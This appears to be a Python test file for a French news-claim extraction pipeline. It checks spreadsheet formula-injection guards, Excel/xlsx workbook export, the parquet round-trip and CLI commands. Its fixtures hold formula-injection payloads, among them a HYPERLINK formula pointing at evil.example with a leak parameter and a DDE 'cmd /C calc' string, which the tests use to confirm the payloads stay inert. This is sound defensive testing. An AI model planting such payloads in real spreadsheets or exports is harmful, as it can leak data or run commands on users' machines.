"""Analyst outputs: safe cells, the spreadsheet CSV variant, the workbook, `export`,
`show` and `sources`."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.export import read_columns, read_table
from pipeline.export.workbook import REVIEW_COLUMNS, write_workbook
from pipeline.safe import SafeDictWriter, is_number, needs_guard, neutralise, restore, safe_row
from pipeline.tables import COLUMNS

from .comparisons_fixture import COMPARISONS, write_comparisons
from .conftest import SHARED

runner = CliRunner()
WIDE = {"COLUMNS": "220"}  # rich tables on one line per row, so phrases stay whole
HYPERLINK = '=HYPERLINK("http://evil.example/x?leak=1","Cliquez ici")'
INJECTED_ARTICLE = (
    "International\n\n"
    f"{HYPERLINK}\n\n"
    "Selon l'AFP, 12 personnes ont été blessées lors de l'incendie à Besançon.\n\n"
    "+33 1 23 45 67 89 est le numéro indiqué par la préfecture.\n"
)


# --- safe cells ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        "+cmd|' /C calc'!A0",
        "-2+3",
        "-1+cmd",
        "-il",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\uff1dSOMME(1)",  # full-width =
        "  =1+1",
        "\u00a0@x",
        "'tis",  # a leading quote is doubled, so that restore() is exact
    ],
)
def test_formula_triggers_are_neutralised_and_restored(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["-3", "+2,5", "-0.18", "15000", "KCNA", "", "l'agence", " -3"])
def test_numbers_and_plain_text_are_unchanged(text):
    assert neutralise(text) == text
    assert restore(text) == text


def test_every_column_is_guarded_ids_included_but_numbers_are_not():
    row = {"doc_id": "=evil", "start": "-3", "value": "-3", "approx": "true", "text": "=1+1"}
    assert safe_row(row) == {**row, "doc_id": "'=evil", "text": "'=1+1"}
    assert is_number("-3") and not is_number("-3 soldats")


def test_safe_writer_is_byte_identical_to_the_contract_on_ordinary_rows(sample_out):
    for table, columns in COLUMNS.items():
        rows = read_table(sample_out, table)
        plain, safe = io.StringIO(), io.StringIO()
        w = csv.DictWriter(plain, fieldnames=columns, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
        s = SafeDictWriter(safe, columns)
        s.writeheader()
        s.writerows(rows)
        assert safe.getvalue() == plain.getvalue(), table
        assert safe.getvalue() == (sample_out / f"{table}.csv").read_text(encoding="utf-8")


def _raw_rows(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    """A CSV file's cells as a spreadsheet receives them (no guard removed)."""
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f, delimiter=delimiter))


def _live_formulas(folder: Path, delimiter: str = ",") -> list[str]:
    """Cells of every CSV in ``folder`` that a spreadsheet could evaluate."""
    return [
        f"{path.name}: {cell!r}"
        for path in sorted(folder.glob("*.csv"))
        for row in _raw_rows(path, delimiter)
        for cell in row.values()
        if needs_guard(cell) and not cell.startswith("'")
    ]


# --- a run with an injected formula: default CSV, --excel, --xlsx ----------------------


@pytest.fixture(scope="module")
def injected_corpus(tmp_path_factory):
    corpus = tmp_path_factory.mktemp("injected")
    (corpus / "piege.txt").write_text(INJECTED_ARTICLE, encoding="utf-8")
    return corpus


@pytest.fixture(scope="module")
def injected_runs(injected_corpus, tmp_path_factory, nlp):
    """The same corpus run twice: default options, and --excel --xlsx."""
    plain, excel = tmp_path_factory.mktemp("plain"), tmp_path_factory.mktemp("excel")
    for out, extra in ((plain, []), (excel, ["--excel", "--xlsx"])):
        result = runner.invoke(app, ["run", str(injected_corpus), "--out", str(out), *extra])
        assert result.exit_code == 0, result.output
    return plain, excel


def test_default_csv_stays_the_contract_with_the_formula_inert(injected_runs):
    plain, _ = injected_runs
    raw = (plain / "documents.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.startswith(b"doc_id,path,title,")
    assert _raw_rows(plain / "documents.csv")[0]["title"] == "'" + HYPERLINK
    doc = read_table(plain, "documents")[0]
    assert doc["title"] == HYPERLINK  # read back as the article wrote it
    assert doc["doc_id"] == "piege"
    assert _live_formulas(plain) == []
    checker = SHARED / "tools" / "check_tables.py"
    if checker.exists():
        result = subprocess.run([sys.executable, str(checker), str(plain)], capture_output=True)
        assert result.returncode == 0, result.stdout.decode()


def test_excel_csv_has_bom_semicolons_accents_and_inert_formula(injected_runs):
    plain, excel = injected_runs
    raw = (excel / "claims.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfdoc_id;claim_id;sent_id;")
    assert _raw_rows(excel / "documents.csv", ";")[0]["title"] == "'" + HYPERLINK
    assert _live_formulas(excel, ";") == []
    claims = _raw_rows(excel / "claims.csv", ";")
    assert {c["negated"] for c in claims} <= {"VRAI", "FAUX"}
    assert read_table(excel, "claims") == read_table(plain, "claims")  # same content
    assert any("blessées" in c["text"] for c in claims)


def test_workbook_of_the_injected_run_holds_text_not_formulas(injected_runs):
    _, excel = injected_runs
    book = openpyxl.load_workbook(excel / "claims.xlsx")
    sheet = book["documents"]
    header = [c.value for c in sheet[1]]
    title = sheet.cell(2, header.index("title") + 1)
    assert title.data_type == "s" and title.value == HYPERLINK  # text, no added quote
    formulas = [
        c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []


# --- formula injection through file names (doc_id) -------------------------------------

HOSTILE_NAMES = ['=HYPERLINK("http:x","y")', "@SUM(1+1)", "+1+1", "-1+cmd", "\uff1d1+1", " =2"]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, nlp):
    corpus = tmp_path_factory.mktemp("hostile")
    for i, name in enumerate(HOSTILE_NAMES):
        (corpus / f"{name}.txt").write_text(
            f"Selon la préfecture, {i + 12} personnes ont été évacuées à Lyon.", encoding="utf-8"
        )
    out = tmp_path_factory.mktemp("hostile-out")
    result = runner.invoke(app, ["run", str(corpus), "--out", str(out), "--xlsx"])
    assert result.exit_code == 0, result.output
    return out


def test_file_names_never_become_live_formulas_and_joins_still_work(hostile_run):
    out = hostile_run
    assert _live_formulas(out) == []
    docs = _raw_rows(out / "documents.csv")
    guarded = {d["doc_id"] for d in docs}
    assert len(guarded) == len(HOSTILE_NAMES)
    assert all(d.startswith("'") for d in guarded)
    # every table writes the one neutralised id: rows join on it
    for table in ("entities", "figures", "claims"):
        rows = _raw_rows(out / f"{table}.csv")
        assert rows and {r["doc_id"] for r in rows} <= guarded, table
    # readers take the guard off: the ids are the file names again, in every output
    ids = {d["doc_id"] for d in read_table(out, "documents")}
    assert ids == {restore(d) for d in guarded}
    texts = [json.loads(line)["doc_id"] for line in (out / "texts.jsonl").open()]
    assert set(texts) == ids
    assert {c["doc_id"] for c in read_table(out, "claims")} <= ids
    book = openpyxl.load_workbook(out / "claims.xlsx")
    assert {r[0] for r in book["documents"].iter_rows(min_row=2, values_only=True)} == ids
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "@SUM(1+1)" in page and "&#39;@SUM" not in page and "'@SUM" not in page


# --- the workbook of the sample run ----------------------------------------------------


@pytest.fixture(scope="module")
def sample_book(sample_out, tmp_path_factory):
    path = write_workbook(sample_out, tmp_path_factory.mktemp("book") / "claims.xlsx")
    return openpyxl.load_workbook(path)


def _sheet_rows(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_workbook_sheets_headers_and_layout(sample_book, sample_out):
    # every run writes comparisons.csv (the sample article's has no group: header only)
    assert sample_book.sheetnames == [
        "review",
        "comparisons",
        "documents",
        "claims",
        "figures",
        "entities",
        "sources",
    ]
    for name in sample_book.sheetnames:
        sheet = sample_book[name]
        assert sheet.freeze_panes == "A2", name
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), name
        assert all(c.font.b for c in sheet[1]), name
        widths = [d.width for d in sheet.column_dimensions.values()]
        assert widths and all(6 <= w <= 61 for w in widths), name
    for name in ("documents", "claims", "figures", "entities", "sources"):
        assert [c.value for c in sample_book[name][1]] == read_columns(sample_out, name)
        assert sample_book[name].max_row == len(read_table(sample_out, name)) + 1


def test_workbook_numbers_and_booleans_are_typed(sample_book):
    figures = _sheet_rows(sample_book["figures"])
    soldiers = next(f for f in figures if f["text"] == "environ 15 000 soldats")
    assert soldiers["value"] == 15000 and isinstance(soldiers["value"], int)
    assert soldiers["approx"] is True
    assert isinstance(soldiers["start"], int) and soldiers["start"] < soldiers["end"]
    claims = _sheet_rows(sample_book["claims"])
    assert all(isinstance(c["negated"], bool) for c in claims)
    assert any(c["negated"] for c in claims)  # "rien n'indique…"
    assert all(isinstance(c["sent_id"], int) for c in claims)
    docs = _sheet_rows(sample_book["documents"])
    assert isinstance(docs[0]["n_claims"], int) and docs[0]["n_claims"] == len(claims)
    assert sample_book["claims"]["F2"].alignment.wrap_text  # long text wraps


def test_review_sheet_joins_claims_with_figures_and_entities(sample_book, sample_out):
    review = _sheet_rows(sample_book["review"])
    assert list(review[0]) == REVIEW_COLUMNS
    assert len(review) == len(read_table(sample_out, "claims"))
    assert all(r["verdict"] is None and r["comment"] is None for r in review)
    soldiers = next(r for r in review if r["figures"] and "environ 15 000 soldats" in r["figures"])
    assert soldiers["source_name"] == "Service national de renseignement sud-coréen"
    assert any(r["entities"] and "Russie" in r["entities"] for r in review)


# --- export, show, sources -------------------------------------------------------------


def test_export_writes_workbook_report_and_excel_copy(sample_out, tmp_path):
    out = tmp_path / "out"
    shutil.copytree(sample_out, out)
    before = (out / "claims.csv").read_bytes()
    result = runner.invoke(app, ["export", str(out), "--xlsx", "--excel", "--report"])
    assert result.exit_code == 0, result.output
    assert (out / "claims.xlsx").exists() and (out / "report.html").exists()
    assert (out / "excel" / "claims.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert (out / "claims.csv").read_bytes() == before  # the contract files stay as they were


def test_export_of_a_folder_without_tables_exits_2(tmp_path):
    result = runner.invoke(app, ["export", str(tmp_path), "--xlsx"])
    assert result.exit_code == 2
    assert "documents.csv: missing" in result.output


def test_show_filters_by_source_and_kind(sample_out):
    result = runner.invoke(
        app, ["show", str(sample_out), "--source", "nis", "--kind", "figures"], env=WIDE
    )
    assert result.exit_code == 0, result.output
    assert "environ 15 000 soldats" in result.output and "1000000000" in result.output
    assert "doubler" not in result.output  # KCNA's figure is filtered out
    result = runner.invoke(app, ["show", str(sample_out), "-s", "KCNA"], env=WIDE)
    assert result.exit_code == 0, result.output
    assert "ont rapporté" in result.output and "suggèrent" not in result.output


def test_show_filters_by_document_and_limits(sample_out):
    result = runner.invoke(app, ["show", str(sample_out), "--doc", "kim-obus-2025"], env=WIDE)
    assert result.exit_code == 0 and "c1" in result.output
    result = runner.invoke(app, ["show", str(sample_out), "--doc", "nope"], env=WIDE)
    assert result.exit_code == 0 and "0 claims" in result.output
    result = runner.invoke(app, ["show", str(sample_out), "-n", "1"], env=WIDE)
    assert "more rows" in result.output


def test_show_rejects_a_bad_kind_or_folder(sample_out, tmp_path):
    assert runner.invoke(app, ["show", str(sample_out), "--kind", "nope"]).exit_code == 2
    assert runner.invoke(app, ["show", str(tmp_path / "missing")]).exit_code == 2


def test_sources_lists_the_registry_and_extensions(tmp_path):
    extra = tmp_path / "mine.csv"
    extra.write_text(
        "id,name,type,aliases\nlemonde,Le Monde,media,Le Monde|le quotidien du soir\n",
        encoding="utf-8",
    )
    result = runner.invoke(app, ["sources", "--sources", str(extra)], env=WIDE)
    assert result.exit_code == 0, result.output
    assert "Service national de renseignement sud-coréen" in result.output
    assert "nis" in result.output and "intelligence" in result.output
    assert "lemonde" in result.output and "le quotidien du soir" in result.output


def test_sources_names_file_and_line_of_a_malformed_row(tmp_path):
    extra = tmp_path / "bad.csv"
    extra.write_text(
        "id,name,type,aliases\nok,OK,media,\nbroken,Broken,newspaper,\n", encoding="utf-8"
    )
    result = runner.invoke(app, ["sources", "--sources", str(extra)], env=WIDE)
    assert result.exit_code == 2
    assert f"{extra}:3" in result.output and "newspaper" in result.output


def test_every_new_command_has_help_with_an_example():
    for cmd in ("export", "show", "sources"):
        result = runner.invoke(app, [cmd, "--help"])
        assert result.exit_code == 0
        assert "Example:" in result.output


def test_parquet_tables_read_back_like_the_csv(sample_out, tmp_path):
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    from pipeline.export.show import typed

    for name in COLUMNS:
        rows = read_table(sample_out, name)
        columns = read_columns(sample_out, name)
        table = pa.Table.from_pylist([{c: typed(c, r[c]) for c in columns} for r in rows])
        pq.write_table(table, tmp_path / f"{name}.parquet")
        assert read_table(tmp_path, name) == rows, name
    shutil.copy(sample_out / "texts.jsonl", tmp_path)
    result = runner.invoke(app, ["export", str(tmp_path), "--xlsx", "--excel", "--report"])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "excel" / "figures.csv").read_text(encoding="utf-8-sig").count(";") > 10
    assert openpyxl.load_workbook(tmp_path / "claims.xlsx")["figures"].max_row > 1


def test_parquet_holds_the_text_without_the_csv_guard(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    from pipeline.parquet import csv_to_parquet
    from pipeline.tables import write_csv

    columns = ["doc_id", "sent_id", "value", "approx", "text"]
    rows = [
        {"doc_id": "=d", "sent_id": 0, "value": "-0.5", "approx": "true", "text": "-il"},
        {"doc_id": "d2", "sent_id": 1, "value": "", "approx": "false", "text": "'tis"},
    ]
    write_csv(tmp_path / "t.csv", columns, rows)
    assert "'=d" in (tmp_path / "t.csv").read_text(encoding="utf-8")
    csv_to_parquet(tmp_path / "t.csv", tmp_path / "t.parquet")
    table = pq.read_table(tmp_path / "t.parquet").to_pylist()
    assert [r["doc_id"] for r in table] == ["=d", "d2"]
    assert [r["text"] for r in table] == ["-il", "'tis"]
    assert table[0]["value"] == -0.5 and table[0]["approx"] is True and table[1]["value"] is None


# --- the workbook's review and comparisons sheets, print setup --------------------------


@pytest.fixture(scope="module")
def compared_out(sample_out, tmp_path_factory):
    """The sample run with the hand-written comparisons.csv beside its tables."""
    out = tmp_path_factory.mktemp("compared")
    shutil.copytree(sample_out, out, dirs_exist_ok=True)
    write_comparisons(out)
    return out


def test_workbook_comparisons_sheet_and_french_review_sheet(compared_out, tmp_path):
    book = openpyxl.load_workbook(write_workbook(compared_out, tmp_path / "c.xlsx"))
    assert book.sheetnames[:2] == ["review", "comparisons"]
    rows = _sheet_rows(book["comparisons"])
    assert [r["text"] for r in rows] == [c[-1] for c in COMPARISONS]  # no quote added
    assert rows[1]["value_max"] == 16000 and isinstance(rows[0]["value"], int)
    review = book["review"]
    header = [c.value for c in review[1]]
    assert header.index("text") == header.index("source_name") + 1  # said next to who
    assert review.column_dimensions["A"].width < review.column_dimensions["D"].width / 2
    validation = review.data_validations.dataValidation[0]
    assert "mauvaise source" in validation.formula1 and "juste" in validation.formula1
    negated = review.cell(2, header.index("negated") + 1)
    assert negated.data_type == "b" and "VRAI" in negated.number_format
    # long claims get rows tall enough for their wrapped lines
    for i, r in enumerate(_sheet_rows(review), 2):
        if len(r["text"]) > 150:
            assert review.row_dimensions[i].height >= 45, r["claim_id"]


def test_every_sheet_prints_landscape_one_page_wide_with_its_header(compared_out, tmp_path):
    book = openpyxl.load_workbook(write_workbook(compared_out, tmp_path / "c.xlsx"))
    for sheet in book:
        assert sheet.page_setup.orientation == "landscape", sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        # fitToWidth's default (1) is left out of the file; 0 pages high = as many as needed
        setup = sheet.page_setup
        assert (setup.fitToWidth or 1, setup.fitToHeight) == (1, 0), sheet.title
        assert sheet.print_title_rows == "$1:$1", sheet.title


def test_workbook_without_comparisons_has_no_such_sheet(sample_out, tmp_path):
    older = tmp_path / "older-run"  # a run from before comparisons.csv existed
    shutil.copytree(sample_out, older)
    (older / "comparisons.csv").unlink()
    book = openpyxl.load_workbook(write_workbook(older, tmp_path / "claims.xlsx"))
    assert "comparisons" not in book.sheetnames


# --- show: escaped, csv and json, comparisons -------------------------------------------

BRACKETS = "la réforme [des retraites] sera votée [sic] [bold]"


@pytest.fixture(scope="module")
def bracket_out(compared_out, tmp_path_factory):
    out = tmp_path_factory.mktemp("brackets")
    shutil.copytree(compared_out, out, dirs_exist_ok=True)
    columns, claims = read_columns(out, "claims"), read_table(out, "claims")
    claims[0]["text"] = BRACKETS
    claims[1]["text"] = "=1+1"
    from pipeline.tables import write_csv

    write_csv(out / "claims.csv", columns, claims)
    return out


def test_show_prints_article_text_with_its_brackets(bracket_out):
    result = runner.invoke(app, ["show", str(bracket_out), "-n", "2"], env=WIDE)
    assert result.exit_code == 0, result.output
    assert BRACKETS in result.output
    assert "'=1+1" not in result.output and "=1+1" in result.output  # no guard on screen


def test_show_csv_and_json_for_csvkit_and_jq(bracket_out):
    result = runner.invoke(app, ["show", str(bracket_out), "--format", "csv", "-n", "0"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == read_columns(bracket_out, "claims")
    assert rows[0]["text"] == BRACKETS and rows[1]["text"] == "'=1+1"  # CSV: guarded
    assert len(rows) == len(read_table(bracket_out, "claims"))
    result = runner.invoke(app, ["show", str(bracket_out), "-k", "figures", "-f", "json"])
    assert result.exit_code == 0, result.output
    figures = json.loads(result.stdout)
    soldiers = next(f for f in figures if f["text"] == "environ 15 000 soldats")
    assert soldiers["value"] == 15000 and soldiers["approx"] is True
    assert soldiers["value_max"] is None and isinstance(soldiers["start"], int)
    claims = json.loads(runner.invoke(app, ["show", str(bracket_out), "-f", "json"]).stdout)
    assert claims[1]["text"] == "=1+1" and isinstance(claims[0]["negated"], bool)


def test_show_comparisons_disagreements_first(bracket_out, sample_out, tmp_path):
    result = runner.invoke(app, ["show", str(bracket_out), "-k", "comparisons"], env=WIDE)
    assert result.exit_code == 0, result.output
    assert "[Koursk]" in result.output and "<b>morts</b>" in result.output
    assert result.output.index("disagree") < result.output.index("agree ")
    rows = json.loads(
        runner.invoke(app, ["show", str(bracket_out), "-k", "comparisons", "-f", "json"]).stdout
    )
    assert [r["group_id"] for r in rows] == ["g2", "g2", "g1", "g1", "g3", "g3"]
    assert rows[4]["value"] == 0.425 and rows[5]["value_max"] == 0.45
    assert rows[1]["text"] == COMPARISONS[3][-1]
    nis = runner.invoke(app, ["show", str(bracket_out), "-k", "comparisons", "-s", "kcna"])
    assert "KCNA" in nis.output and "Washington" not in nis.output
    # the sample run found no group (its comparisons.csv is a header), and a run from
    # before comparisons.csv existed: an empty table, not an error
    result = runner.invoke(app, ["show", str(sample_out), "-k", "comparisons"], env=WIDE)
    assert result.exit_code == 0 and "0 comparisons" in result.output
    older = tmp_path / "older-run"
    shutil.copytree(sample_out, older)
    (older / "comparisons.csv").unlink()
    result = runner.invoke(app, ["show", str(older), "-k", "comparisons"], env=WIDE)
    assert result.exit_code == 0 and "0 comparisons" in result.output
    assert "no comparisons.csv" in result.output
    result = runner.invoke(app, ["show", str(older), "-k", "comparisons", "-f", "csv"])
    assert result.stdout.startswith("group_id,relation,doc_id,")


def test_excel_copy_includes_comparisons(compared_out, tmp_path):
    out = tmp_path / "out"
    shutil.copytree(compared_out, out)
    result = runner.invoke(app, ["export", str(out), "--excel"])
    assert result.exit_code == 0, result.output
    rows = _raw_rows(out / "excel" / "comparisons.csv", ";")
    assert rows[3]["text"] == "'" + COMPARISONS[3][-1]
    assert read_table(out / "excel", "comparisons") == read_table(out, "comparisons")


def test_a_newer_parquet_table_wins_over_a_stale_csv(sample_out, tmp_path):
    pytest.importorskip("pyarrow")
    import os

    from pipeline.parquet import csv_to_parquet

    stale = tmp_path / "claims.csv"
    shutil.copy(sample_out / "claims.csv", stale)
    rows = read_table(sample_out, "claims")
    columns = read_columns(sample_out, "claims")
    from pipeline.tables import write_csv

    fresh = tmp_path / "fresh.csv"
    write_csv(fresh, columns, rows[:3])
    csv_to_parquet(fresh, tmp_path / "claims.parquet")
    fresh.unlink()
    os.utime(stale, (1_000_000_000, 1_000_000_000))  # the older run's file
    assert read_table(tmp_path, "claims") == rows[:3]
